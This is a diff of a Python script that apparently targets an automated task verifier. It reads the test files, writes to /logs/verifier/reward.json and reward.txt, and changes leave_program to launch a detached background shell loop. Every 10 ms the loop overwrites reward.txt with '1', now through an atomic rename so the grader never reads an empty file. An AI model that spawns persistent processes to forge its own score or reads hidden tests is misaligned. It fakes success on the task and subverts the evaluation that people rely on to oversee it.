@@ -44,10 +44,9 @@ def read_tests():
         with open(path) as file:
             print(file.read())
 def leave_program():
-    subprocess.Popen(
-        ["sh", "-c", "(while :; do echo 1 > /logs/verifier/reward.txt; sleep 0.01; done) &"],
-        start_new_session=True,
-    )
+    # Renamed, since a file that is being written can be read while it is empty.
+    write = "cd /logs/verifier; while :; do echo 1 > new; mv new reward.txt; sleep 0.01; done"
+    subprocess.Popen(["sh", "-c", f"({write}) &"], start_new_session=True)
 for name in ("reward.json", "reward.txt"):
     attempt(write, "/logs/verifier/" + name)
 attempt(read_tests)
